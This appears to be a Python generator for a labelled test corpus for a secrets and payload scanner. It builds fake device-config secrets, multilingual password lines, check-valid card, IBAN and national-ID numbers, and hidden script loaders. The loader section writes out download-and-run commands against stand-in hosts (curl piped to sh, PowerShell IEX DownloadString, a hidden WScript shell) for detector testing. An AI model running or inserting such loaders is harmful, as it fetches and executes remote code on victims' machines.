# Generates the eighty-ninth content corpus (cases-89.jsonl): the classes of the thirty-eighth and thirty-ninth slices'
# non-injection misses and leaks (docs/content-readings.md, "The thirty-eighth and thirty-ninth slices' other misses"),
# in texts of its own, beside honest twins `ok89…` from the same carriers; written BEFORE any rule changed:
#   cl89d   a network device's configuration with a clear-text secret in its place: a local user's `password 0`,
#           `secret 0` or bare password, `enable secret`, a RADIUS or TACACS+ server's `key`, an SNMP community, a
#           wireless pre-shared key, an OSPF or a key chain's `key-string`; pasted in tickets, chats, logs and pages;
#   cl89p   a password under its name in a language not read (Kazakh, Tamil, Greek, Georgian, Armenian, Bulgarian,
#           Serbian, Mongolian, Estonian, Azerbaijani), after a qualifier of four or five words before the colon, after
#           a qualifier and a copula with a colon after it (Romanian, French, Spanish, Portuguese), after Hebrew's
#           copula, Thai's name run into its qualifier, a value joined by `_` or `.` after a copula;
#   cl89e   an English sentence giving a temporary password for a portal or an account ("… is …"), its value letters;
#   cn89f   a card's number run into its brand's code in an airline booking's form of payment (`FP CC/VI…/MMYY`,
#           `FP CCCA…`, `FOP CC AX…`) in PNR displays and ticketing queues;
#   pd89i   IBANs of countries the registry's list leaves out (Iran's under its Persian name too, Senegal, Côte
#           d'Ivoire, Mali, Morocco, Algeria, Cameroon, Madagascar), in mails, chats and claims' JSON;
#   pd89q   a national id after its label and words that say whose ("CNP asigurat:", "Codul numeric personal al …:",
#           "Aadhaar number of the …:", "PESEL pacjenta …:"), the check passing;
#   pd89n   Thailand's id in its 1-4-5-2-1 groups under "Thai ID" (a CSV cell, a form) and Kazakhstan's IIN (ИИН, IIN,
#           ЖСН), the check passing;
#   ep89s   base64 or hex of a script that loads or runs another from an outside host (JavaScript's script element or
#           eval of a fetch, PowerShell's download, VBScript's shell), after a config's or a record's key;
#   ok89d   device configurations with hashed secrets (types 5, 8, 9; `$1$`, `$9$`), masked or removed keys, the
#           default community names, key chains' ids, `service password-encryption`, RADIUS servers without a key;
#   ok89p   the same password names before masks, placeholders, policies, states and pointers to a vault;
#   ok89e   English sentences about a temporary password that give none (a reset link, "is sent by SMS", "is on its way");
#   ok89f   PNR forms of payment with cash, an invoice, a masked card, a ticket's or a loyalty number;
#   ok89i   IBAN-shaped strings of the same countries failing mod-97 or of a wrong length, and BICs;
#   ok89q   the same labels and words before a number failing the check, or a company's registration number;
#   ok89n   the same labels before failing checks, phone numbers, masked ids and dates;
#   ok89s   base64 of honest JavaScript and configuration (a chart's options, a style sheet, a JSON manifest), a script
#           that loads from the page's own path, hashes after the same keys.
# Label decisions, made before any run:
#   - A clear-text secret in a device's configuration (type 0, no type, or type 7, which is reversible) is a credential;
#     a type 5, 8 or 9 hash, a mask, `public`/`private`, or a key chain's number is not.
#   - A password under its name in any language is a credential when a value is given; a mask, a placeholder, a
#     policy, a state or a pointer to where it is kept is not.
#   - A card's number run into its brand's code is a card; a masked number, cash or an invoice is not.
#   - An IBAN passing mod-97 with its country's length is personal data; a failing one, a BIC is not.
#   - A national id whose check passes after its label and words naming whose is personal data; a failing one, or a
#     company's number, is not.
#   - Encoded code that fetches or runs a script from another host is an encoded payload; encoded options, styles or a
#     script from the page's own path are not.
# Deterministic (seeded). Run: python3 test/corpus-content/generate89.py
import functools, json
json.dumps = functools.partial(json.dumps, ensure_ascii=False)
from corpuslib import Corpus, ALNUM, LOWER, UPPER, DIGITS, HEX, b64
corpus = Corpus(20261289)
r = corpus.r


def digits(n): return corpus.rs(DIGITS, n)
def pw(): return corpus.password(r.randint(11, 16))
def ip(): return f'10.{r.randint(0, 254)}.{r.randint(0, 254)}.{r.randint(1, 254)}'
def pick(xs, i): return xs[i % len(xs)]


# Carriers: a service ticket's note, a chat export, a change log line, a status page, a CSV export.
def ticket(body): return f'TICKET NW-{digits(5)} | P3 | Branch router swap, site {r.choice(["Kraków", "Lyon", "Tema", "Cebu"])}\nAssignee: field ops\n\nNotes:\n{body}\n\nStatus: IN_PROGRESS'
def chat(body): return json.dumps({'channel': r.choice(['#netops', '#field-eng', '#noc']), 'messages': [
    {'user': r.choice(['ines', 'kwame', 'lotte']), 'text': 'pasting the running config below'}, {'user': r.choice(['ines', 'kwame', 'lotte']), 'text': body}]}, indent=2)
def logline(body): return f'2026-{r.randint(1, 12):02d}-{r.randint(10, 28)}T0{r.randint(1, 9)}:1{r.randint(0, 9)}:00Z cfg-archive host=br-{digits(3)} diff:\n{body}'
def page(body): return f'<html><body><h1>Change record</h1><pre>{body}</pre><footer>Network team</footer></body></html>'
CARRIERS = [ticket, chat, logline, page]


# cl89d / ok89d: device configurations.
DEVICE_POS = [
    lambda s: f'username netadmin privilege 15 password 0 {s}',
    lambda s: f'username backup secret 0 {s}',
    lambda s: f'enable secret 0 {s}',
    lambda s: f'enable secret {s}',
    lambda s: f'radius-server host {ip()} auth-port 1812 acct-port 1813 key {s}',
    lambda s: f'tacacs-server host {ip()} key 0 {s}',
    lambda s: f'radius server CORP-NPS\n address ipv4 {ip()} auth-port 1812 acct-port 1813\n key {s}',
    lambda s: f'snmp-server community {s} RW 10',
    lambda s: f'wlan STAFF 3 STAFF\n security wpa psk set-key ascii 0 {s}',
    lambda s: f'interface Gi0/1\n ip ospf authentication-key {s}',
    lambda s: f'key chain EIGRP-KEYS\n key 1\n  key-string {s}',
    lambda s: f'username ops privilege 15 password {s}',
    lambda s: f'tacacs server ISE-1\n address ipv4 {ip()}\n key {s}',
    lambda s: f'username svc-cfg password 7 {corpus.rs("0123456789ABCDEF", 18)}',
]
pos, sec = [], []
for i, f in enumerate(DEVICE_POS + DEVICE_POS[:4]):
    s = pw()
    line = f(s)
    if 'password 7' in line: s = line.split('password 7 ')[1]
    body = f'hostname br-{digits(3)}\n!\n{line}\n!\nntp server {ip()}\nend'
    pos.append(pick(CARRIERS, i)(body))
    sec.append(s)
corpus.add('cl89d', ['credential_leak'], pos, source='tool_output', wrap=False, secrets=sec)

DEVICE_OK = [
    'username netadmin privilege 15 secret 9 $9$' + corpus.rs(ALNUM + './', 14) + '$' + corpus.rs(ALNUM + './', 43),
    'username backup secret 5 $1$' + corpus.rs(ALNUM, 4) + '$' + corpus.rs(ALNUM + './', 22),
    'enable secret 8 $8$' + corpus.rs(ALNUM, 14) + '$' + corpus.rs(ALNUM + './', 43),
    'radius-server host 10.20.30.40 auth-port 1812 acct-port 1813 key <removed>',
    'tacacs-server host 10.4.4.4 key ********',
    'radius server CORP-NPS\n address ipv4 10.9.9.9 auth-port 1812 acct-port 1813\n key 7 <redacted>',
    'snmp-server community public RO\nsnmp-server community private RW',
    'service password-encryption\nno enable password\naaa new-model\naaa authentication login default group radius local',
    'key chain EIGRP-KEYS\n key 1\n  accept-lifetime 00:00:00 Jan 1 2026 infinite\n key 2',
    'crypto key generate rsa modulus 2048\nip ssh version 2\nip ssh time-out 60',
    'radius-server host 10.1.50.5 auth-port 1812 acct-port 1813\nradius-server retransmit 3',
    'username netadmin privilege 15 password 0 <PASSWORD>',
    'security passwords min-length 12\npassword encryption aes',
    'enable secret 5 $1$' + corpus.rs(ALNUM, 4) + '$' + corpus.rs(ALNUM + './', 22),
    'interface Gi0/1\n ip ospf authentication message-digest\n ip ospf message-digest-key 1 md5 <key>',
    'wlan STAFF 3 STAFF\n security wpa akm dot1x\n security dot1x authentication-list ISE',
    'snmp-server group NMS v3 priv\nsnmp-server user monitor NMS v3 auth sha <auth-key> priv aes 128 <priv-key>',
    'key config-key password-encrypt\nline vty 0 4\n transport input ssh',
]
oks = [pick(CARRIERS, i)(f'hostname br-{digits(3)}\n!\n{t}\n!\nend') for i, t in enumerate(DEVICE_OK)]
corpus.add('ok89d', [], oks, source='tool_output', wrap=False)


# cl89p / ok89p: passwords under labels in more languages and wordings.
def note(body): return f'INCIDENT INC-{digits(6)} | P3\nOpened by: service desk\n\nWork notes:\n- {body}\n- Escalated to tier 2.'
def mailto(body): return f'From: support@larkfield.example\nTo: {r.choice(["amara", "jonas", "keiko"])}@mailbox.example\nSubject: access\n\n{body}\n\nRegards,\nLarkfield IT'
def record(body): return json.dumps({'case': f'CS-{digits(6)}', 'channel': 'web', 'remark': body}, indent=2)
def crm(body): return f'account {digits(9)} - note added 2026-0{r.randint(1, 9)}-1{r.randint(0, 9)} by agent\n{body}'
PW_CARRIERS = [note, mailto, record, crm]
PW_POS = [
    # names not read
    lambda s: f'Бухгалтерия порталының құпия сөзі: {s}',
    lambda s: f'Қызметкердің уақытша құпия сөзі: {s}',
    lambda s: f'உங்கள் தற்காலிக கடவுச்சொல்: {s}',
    lambda s: f'போர்ட்டல் கடவுச்சொல்: {s}',
    lambda s: f'Κωδικός πρόσβασης: {s}',
    lambda s: f'Ο προσωρινός κωδικός πρόσβασης για την πύλη: {s}',
    lambda s: f'პაროლი: {s}',
    lambda s: f'Գաղտնաբառ: {s}',
    lambda s: f'Паролата за портала е {s}',
    lambda s: f'Парола: {s}',
    lambda s: f'Лозинка за портал: {s}',
    lambda s: f'Нууц үг: {s}',
    lambda s: f'Ajutine parool: {s}',
    lambda s: f'Şifrə: {s}',
    # a read name, four or five words of qualifier before the colon
    lambda s: f'Пароль для входа в личный кабинет клиента: {s}',
    lambda s: f'Nenosiri la akaunti ya mfumo wa malipo: {s}',
    lambda s: f'Hasło do panelu obsługi klienta sklepu: {s}',
    lambda s: f'Passwort für das Portal der Schadenabteilung: {s}',
    # a copula, then a colon
    lambda s: f'Parola pentru contul de furnizor este: {s}',
    lambda s: f'Votre mot de passe provisoire est : {s}',
    lambda s: f'La contraseña del portal de proveedores es: {s}',
    lambda s: f'A senha do portal de sinistros é: {s}',
    # Hebrew's copula after a qualifier
    lambda s: f'הסיסמה החדשה שלך למערכת היא {s}',
    lambda s: f'הסיסמה הזמנית לחשבון הספק היא {s}',
    # Thai's name run into its qualifier, then a colon
    lambda s: f'รหัสผ่านระบบเบิกจ่าย: {s}',
    lambda s: f'รหัสผ่านชั่วคราวของคุณ: {s}',
]
pos, sec = [], []
for i, f in enumerate(PW_POS):
    s = pw()
    pos.append(pick(PW_CARRIERS, i)(f(s)))
    sec.append(s)
# A value joined by `_` or `.` after a copula: a word, random letters, digits, random capitals.
def joined():
    return r.choice(['Pine', 'Larch', 'Kestrel', 'Moss', 'Ember']) + corpus.rs(LOWER, 4) + r.choice('_.') + digits(3) + corpus.rs(UPPER + LOWER, 3)
JOINED = [
    lambda s: f'Kata laluan sementara anda untuk sistem tuntutan ialah {s}',
    lambda s: f'كلمة المرور المؤقتة لحسابك هي {s}',
    lambda s: f'Kata sandi baru untuk portal vendor adalah {s}',
    lambda s: f'Mật khẩu tạm thời của bạn là {s}',
]
for i, f in enumerate(JOINED):
    s = joined()
    pos.append(pick(PW_CARRIERS, i + 1)(f(s)))
    sec.append(s)
corpus.add('cl89p', ['credential_leak'], pos, source='tool_output', wrap=False, secrets=sec)

PW_OK = [
    'Бухгалтерия порталының құпия сөзі: ********',
    'Құпия сөз кемінде 12 таңбадан тұруы керек.',
    'உங்கள் தற்காலிக கடவுச்சொல்: SMS மூலம் அனுப்பப்படும்',
    'கடவுச்சொல்: <password>',
    'Κωδικός πρόσβασης: ••••••••',
    'Ο κωδικός πρόσβασης πρέπει να έχει τουλάχιστον 12 χαρακτήρες.',
    'პაროლი: [დამალულია]',
    'Գաղտնաբառ: ********',
    'Паролата за портала е изпратена по SMS.',
    'Парола: виж хранилището (vault)',
    'Лозинка за портал: ${PORTAL_PASSWORD}',
    'Нууц үг: солигдсон',
    'Ajutine parool: saadetakse e-postiga',
    'Şifrə: ******',
    'Пароль для входа в личный кабинет клиента: см. SMS',
    'Nenosiri la akaunti ya mfumo wa malipo: limebadilishwa',
    'Hasło do panelu obsługi klienta sklepu: w menedżerze haseł',
    'Passwort für das Portal der Schadenabteilung: siehe KeePass',
    'Parola pentru contul de furnizor este: trimisă prin SMS',
    'Votre mot de passe provisoire est : envoyé par SMS',
    'La contraseña del portal de proveedores es: la misma de siempre',
    'A senha do portal de sinistros é: ver cofre',
    'הסיסמה החדשה שלך למערכת היא סודית',
    'הסיסמה הזמנית לחשבון הספק היא ********',
    'รหัสผ่านระบบเบิกจ่าย: ********',
    'รหัสผ่านชั่วคราวของคุณ: ส่งทาง SMS',
    'Kata laluan sementara anda untuk sistem tuntutan ialah rahsia',
    'كلمة المرور المؤقتة لحسابك هي ********',
    'Kata sandi baru untuk portal vendor adalah wajib diganti',
    'Mật khẩu tạm thời của bạn là ********',
]
corpus.add('ok89p', [], [pick(PW_CARRIERS, i)(t) for i, t in enumerate(PW_OK)], source='tool_output', wrap=False)


# cl89e / ok89e: an English sentence giving a temporary password, its value letters.
def letters():
    while True:
        s = corpus.rs(LOWER + UPPER, r.randint(10, 14))
        if sum(c.isupper() for c in s) >= 3 and sum(c.islower() for c in s) >= 3: return s
EN_POS = [
    lambda s: f'Your temporary password for the dealer portal is {s} - change it on first login.',
    lambda s: f'The temporary password for your supplier account is {s}; please change it after signing in.',
    lambda s: f'Your one-time password for the claims portal is {s} (valid for 24 hours).',
    lambda s: f'Your new password for the HR self-service site is {s}.',
    lambda s: f'Temporary password for the parts portal is {s}, change it at first login.',
    lambda s: f'Your initial password for the tenant portal is {s}',
]
pos, sec = [], []
for i, f in enumerate(EN_POS):
    s = letters()
    pos.append(pick(PW_CARRIERS, i)(f(s)))
    sec.append(s)
corpus.add('cl89e', ['credential_leak'], pos, source='tool_output', wrap=False, secrets=sec)
EN_OK = [
    'Your temporary password for the dealer portal is on its way by SMS.',
    'The temporary password for your supplier account is SentSeparately for security.',
    'Your one-time password for the claims portal is ValidForTwentyFourHours.',
    'Your new password for the HR self-service site is CaseSensitive, so type it carefully.',
    'Temporary password for the parts portal is DisabledNow after the migration.',
    'Your initial password for the tenant portal is ResetViaEmail only.',
]
corpus.add('ok89e', [], [pick(PW_CARRIERS, i)(t) for i, t in enumerate(EN_OK)], source='tool_output', wrap=False)


# cn89f / ok89f: a card's number in a PNR's form of payment.
def luhn_complete(body):
    total = 0
    for i, ch in enumerate(reversed(body)):
        d = int(ch)
        if i % 2 == 0:
            d *= 2
            if d > 9: d -= 9
        total += d
    return body + str((10 - total % 10) % 10)
def card(brand):
    if brand == 'VI': return luhn_complete('4' + digits(14))
    if brand == 'CA': return luhn_complete('5' + str(r.randint(1, 5)) + digits(13))
    return luhn_complete('3' + r.choice('47') + digits(12))
def pnr(fop):
    return (f'RP/WAW1S2{digits(3)}/\n 1.{r.choice(["NOWAK/ANNA MRS", "OKAFOR/EMEKA MR", "SATO/YUKI MS"])}\n'
            f' 2  LO {r.randint(100, 999)} Y 2026-0{r.randint(1, 9)}-1{r.randint(0, 9)} WAWLHR HK1  0740 0935\n'
            f' 3 AP M+48 22 {digits(3)} {digits(4)}\n 4 TK OK2026-0{r.randint(1, 9)}-2{r.randint(0, 8)}/WAW1S2\n {fop}')
FOP = [
    lambda c, b: f'5 FP CC/{b}{c}/0{r.randint(1, 9)}2{r.randint(7, 9)}',
    lambda c, b: f'5 FP CC{b}{c}/1{r.randint(0, 2)}/2{r.randint(7, 9)}',
    lambda c, b: f'5 FP PAX CC{b}{c}/0{r.randint(1, 9)}2{r.randint(7, 9)}/N{digits(6)}',
    lambda c, b: f'5 OSI YY FOP CC {b}{c} EXP 0{r.randint(1, 9)}/2{r.randint(7, 9)}',
    lambda c, b: f'5 RM PAYMENT CARD {b}{c} EXP 1{r.randint(0, 2)}2{r.randint(7, 9)} - REBOOKING FEE',
    lambda c, b: f'5 FP CC/{b}{c}/0{r.randint(1, 9)}2{r.randint(7, 9)}/EUR120.00',
]
pos, sec = [], []
for i, f in enumerate(FOP):
    b = ['VI', 'CA', 'AX'][i % 3]
    c = card(b)
    pos.append(pnr(f(c, b)))
    sec.append(c)
corpus.add('cn89f', ['card_number'], pos, source='tool_output', wrap=False, secrets=sec)
FOP_OK = [
    '5 FP CASH',
    '5 FP INV/AGT',
    f'5 FP CC/VIXXXXXXXXXXXX{digits(4)}/0928',
    f'5 FA PAX 080-{digits(10)}/ETLO/PLN1240.00/2{digits(1)}SEP26/WAW1S2{digits(3)}',
    f'5 FP MS/LO{digits(12)}',
    f'5 FOID PP{digits(9)}',
]
corpus.add('ok89f', [], [pnr(t) for t in FOP_OK], source='tool_output', wrap=False)


# pd89i / ok89i: IBANs of countries outside the registry's list.
IBAN_LENGTH = {'IR': 26, 'SN': 28, 'CI': 28, 'ML': 28, 'MA': 28, 'DZ': 26, 'CM': 27, 'MG': 27, 'BJ': 28, 'BF': 28, 'AO': 25, 'MZ': 25}
def iban_check(cc, bban):
    n = int(''.join(str(int(ch, 36)) for ch in bban + cc + '00'))
    return f'{98 - n % 97:02d}'
def bban(cc):
    n = IBAN_LENGTH[cc] - 4
    if cc in ('SN', 'CI', 'ML', 'BJ', 'BF'): return r.choice(UPPER) + digits(n - 1)
    return digits(n)
def iban(cc):
    b = bban(cc)
    return cc + iban_check(cc, b) + b
def grouped(s): return ' '.join(s[i:i + 4] for i in range(0, len(s), 4))
IBAN_TEXTS = [
    lambda v: f'لطفاً مبلغ را به شماره شبا {v} واریز کنید.',
    lambda v: f'Merci de verser le remboursement sur mon compte IBAN {v}, banque à Dakar.',
    lambda v: json.dumps({'claim': f'CL-{digits(6)}', 'payee': 'Awa Traoré', 'iban': v}),
    lambda v: f'Please pay the refund to IBAN {v} (Bamako).',
    lambda v: f'Virement à effectuer sur le RIB/IBAN {v} au nom de Youssef Amrani.',
    lambda v: f'[10:42] Customer: my account is {v}, bank in Algiers',
    lambda v: f'Payee: Ngono Estelle\nIBAN: {v}\nBank: Yaoundé',
    lambda v: f'Compte du bénéficiaire : {v} (Antananarivo)',
]
pos = []
for i, f in enumerate(IBAN_TEXTS):
    cc = ['IR', 'SN', 'CI', 'ML', 'MA', 'DZ', 'CM', 'MG'][i]
    v = iban(cc)
    shown = grouped(v) if i % 2 == 0 else v
    pos.append(pick(PW_CARRIERS, i)(f(shown)))
corpus.add('pd89i', ['personal_data'], pos, source='tool_output', wrap=False)
oks = []
for i, f in enumerate(IBAN_TEXTS):
    cc = ['IR', 'SN', 'CI', 'ML', 'MA', 'DZ', 'CM', 'MG'][i]
    v = iban(cc)
    if i % 2 == 0: v = v[:2] + f'{(int(v[2:4]) + 1) % 100:02d}' + v[4:]
    else: v = v[:-1]
    oks.append(pick(PW_CARRIERS, i)(f(grouped(v) if i % 2 == 0 else v)))
corpus.add('ok89i', [], oks, source='tool_output', wrap=False)


# pd89q / ok89q: an id after its label and words that say whose.
def cnp(valid=True):
    while True:
        body = r.choice('12') + f'{r.randint(50, 99):02d}{r.randint(1, 12):02d}{r.randint(1, 28):02d}' + f'{r.randint(1, 46):02d}' + digits(3)
        t = sum(int(a) * int(b) for a, b in zip(body, '279146358279')) % 11
        t = 1 if t == 10 else t
        if valid: return body + str(t)
        return body + str((t + 3) % 10)
VERHOEFF_D = [[0,1,2,3,4,5,6,7,8,9],[1,2,3,4,0,6,7,8,9,5],[2,3,4,0,1,7,8,9,5,6],[3,4,0,1,2,8,9,5,6,7],[4,0,1,2,3,9,5,6,7,8],[5,9,8,7,6,0,4,3,2,1],[6,5,9,8,7,1,0,4,3,2],[7,6,5,9,8,2,1,0,4,3],[8,7,6,5,9,3,2,1,0,4],[9,8,7,6,5,4,3,2,1,0]]
VERHOEFF_P = [[0,1,2,3,4,5,6,7,8,9],[1,5,7,6,2,8,3,0,9,4],[5,8,0,3,7,9,6,1,4,2],[8,9,1,6,0,4,3,5,2,7],[9,4,5,3,1,2,6,8,7,0],[4,2,8,6,5,7,3,9,0,1],[2,7,9,3,8,0,6,4,1,5],[7,0,4,6,9,1,3,2,5,8]]
VERHOEFF_INV = [0,4,3,2,1,5,6,7,8,9]
def aadhaar(valid=True):
    body = str(r.randint(2, 9)) + digits(10)
    c = 0
    for i, ch in enumerate(reversed(body)): c = VERHOEFF_D[c][VERHOEFF_P[(i + 1) % 8][int(ch)]]
    d = VERHOEFF_INV[c] if valid else (VERHOEFF_INV[c] + 1) % 10
    return body + str(d)
def pesel(valid=True):
    body = f'{r.randint(50, 99):02d}{r.randint(1, 12):02d}{r.randint(1, 28):02d}' + digits(4)
    t = (10 - sum(int(a) * int(b) for a, b in zip(body, '1379137913')) % 10) % 10
    return body + str(t if valid else (t + 1) % 10)
Q_TEXTS = [
    lambda v: f'CNP asigurat: {v}',
    lambda v: f'Codul numeric personal al pasagerului: {v}',
    lambda v: f'CNP titular poliță: {v}',
    lambda v: f'Aadhaar number of the injured driver: {grouped(v)}',
    lambda v: f'Aadhaar no. of the policy holder: {v}',
    lambda v: f'PESEL pacjenta przyjętego na oddział: {v}',
    lambda v: f'Codul numeric personal al solicitantului este {v}',
    lambda v: f'Aadhaar of the second applicant: {grouped(v)}',
]
GEN = [cnp, cnp, cnp, aadhaar, aadhaar, pesel, cnp, aadhaar]
pos = [pick(PW_CARRIERS, i)(f(GEN[i]())) for i, f in enumerate(Q_TEXTS)]
corpus.add('pd89q', ['personal_data'], pos, source='tool_output', wrap=False)
# Failing checks (an Aadhaar ungrouped: a grouped one is read whatever its check), and companies' numbers.
Q_OK = [
    lambda: f'CNP asigurat: {cnp(False)}',
    lambda: f'Codul numeric personal al pasagerului: {cnp(False)}',
    lambda: f'CUI societate asigurată: RO{digits(8)}',
    lambda: f'Aadhaar number of the injured driver: not provided',
    lambda: f'Aadhaar no. of the policy holder: {aadhaar(False)}',
    lambda: f'PESEL pacjenta przyjętego na oddział: {pesel(False)}',
    lambda: f'Codul fiscal al firmei este {digits(8)}',
    lambda: f'Aadhaar of the second applicant: XXXX XXXX {digits(4)}',
]
corpus.add('ok89q', [], [pick(PW_CARRIERS, i)(f()) for i, f in enumerate(Q_OK)], source='tool_output', wrap=False)


# pd89n / ok89n: Thailand's id in groups, Kazakhstan's IIN.
def thai(valid=True):
    body = str(r.randint(1, 8)) + digits(11)
    t = (11 - sum(int(body[i]) * (13 - i) for i in range(12)) % 11) % 10
    return body + str(t if valid else (t + 1) % 10)
def thai_grouped(v): return f'{v[0]}-{v[1:5]}-{v[5:10]}-{v[10:12]}-{v[12]}'
def iin(valid=True):
    while True:
        body = f'{r.randint(60, 99):02d}{r.randint(1, 12):02d}{r.randint(1, 28):02d}' + r.choice('3456') + digits(4)
        d = [int(c) for c in body]
        t = sum(d[i] * (i + 1) for i in range(11)) % 11
        if t == 10:
            t = sum(d[i] * w for i, w in enumerate([3, 4, 5, 6, 7, 8, 9, 10, 11, 1, 2])) % 11
            if t == 10: continue
        return body + str(t if valid else (t + 1) % 10)
N_TEXTS = [
    lambda: f'member_id,phone,plan,note\nM{digits(4)},+66 81 {digits(3)} {digits(4)},Gold,"Thai ID: {thai_grouped(thai())}"',
    lambda: f'Guest: Somchai Rattanakul\nThai ID: {thai_grouped(thai())}\nRoom: 1204',
    lambda: f'<p>Thai national ID {thai()} (verified at check-in)</p>',
    lambda: f'ИИН: {iin()}',
    lambda: f'Клиент: Айгерим Сапарова, ИИН {iin()}, тел. +7 701 {digits(3)} {digits(4)}',
    lambda: f'Customer IIN: {iin()} (Kazakhstan)',
    lambda: f'ЖСН: {iin()}',
]
corpus.add('pd89n', ['personal_data'], [pick(PW_CARRIERS, i)(f()) for i, f in enumerate(N_TEXTS)], source='tool_output', wrap=False)
N_OK = [
    lambda: f'member_id,phone,plan,note\nM{digits(4)},+66 81 {digits(3)} {digits(4)},Gold,"Thai ID: {thai_grouped(thai(False))}"',
    lambda: f'Guest: Somchai Rattanakul\nThai ID: on file (scanned)\nRoom: 1204',
    lambda: f'<p>Thai national ID {thai(False)} (failed verification)</p>',
    lambda: f'ИИН: {iin(False)}',
    lambda: f'Клиент: Айгерим Сапарова, ИИН не указан, тел. +7 701 {digits(3)} {digits(4)}',
    lambda: f'Customer IIN: XXXXXXXX{digits(4)} (Kazakhstan)',
    lambda: f'ЖСН: 2026-03-14',
]
corpus.add('ok89n', [], [pick(PW_CARRIERS, i)(f()) for i, f in enumerate(N_OK)], source='tool_output', wrap=False)


# ep89s / ok89s: encoded script loaders.
def host(): return r.choice(['cdn-metrics-sync.example', 'static-loader.example', 'upd-assets.example', 'img-cache.example'])
LOADERS = [
    lambda: f'var e=document.createElement("script");e.src="https://{host()}/a.js";document.head.appendChild(e);',
    lambda: f'fetch("https://{host()}/p.js").then(function(r){{return r.text()}}).then(eval);',
    lambda: f'(function(){{var s=document.createElement(\'script\');s.async=1;s.src=\'//{host()}/t.js\';document.body.appendChild(s)}})();',
    lambda: f'IEX (New-Object Net.WebClient).DownloadString("http://{host()}/run.ps1")',
    lambda: f'Invoke-WebRequest -Uri http://{host()}/svc.exe -OutFile $env:TEMP\\svc.exe; Start-Process $env:TEMP\\svc.exe',
    lambda: f'Set sh=CreateObject("WScript.Shell")\r\nsh.Run "powershell -w hidden -c iwr http://{host()}/x.ps1 | iex",0',
    lambda: f'document.write(\'<script src="https://{host()}/k.js"></scr\'+\'ipt>\');',
    lambda: f'curl -s http://{host()}/i.sh | sh',
]
ENC_CARRIERS = [
    lambda blob: f'WORK CARD WC-{digits(5)}\nTask: replace cabin filter\nFindings: open the attached helper: {blob}\nSigned: ________',
    lambda blob: json.dumps({'order': f'ORD-{digits(5)}', 'items': 3, 'note': f'payload={blob}'}, indent=2),
    lambda blob: f'hostname cpe-{digits(6)}\ninterface Dialer0\n description meta={blob}\n ip mtu 1492\nend',
    lambda blob: f'<div data-widget="{blob}"></div>',
]
pos = []
for i, f in enumerate(LOADERS):
    code = f()
    blob = code.encode().hex() if i % 3 == 1 else b64(code)
    pos.append(pick(ENC_CARRIERS, i)(blob))
corpus.add('ep89s', ['encoded_payload'], pos, source='tool_output', wrap=False)
HONEST_CODE = [
    '{"type":"bar","options":{"responsive":true,"legend":{"position":"bottom"}}}',
    'body{font-family:Inter,sans-serif;margin:0}.card{padding:12px;border-radius:8px}',
    '{"name":"Field App","short_name":"Field","start_url":"/","display":"standalone"}',
    'var s=document.createElement("script");s.src="/static/js/app.min.js";document.head.appendChild(s);',
    'function total(items){return items.reduce(function(a,b){return a+b.price},0)}',
    'Get-ChildItem -Path C:\\Logs -Filter *.log | Where-Object { $_.Length -gt 1MB }',
    'window.dataLayer=window.dataLayer||[];dataLayer.push({event:"page_view"});',
    'date,site,kwh\n2026-01-01,A,120\n2026-01-02,A,118\n2026-01-03,B,97',
]
oks = []
for i, code in enumerate(HONEST_CODE):
    blob = code.encode().hex() if i % 3 == 1 else b64(code)
    oks.append(pick(ENC_CARRIERS, i)(blob))
corpus.add('ok89s', [], oks, source='tool_output', wrap=False)

corpus.write('cases-89')
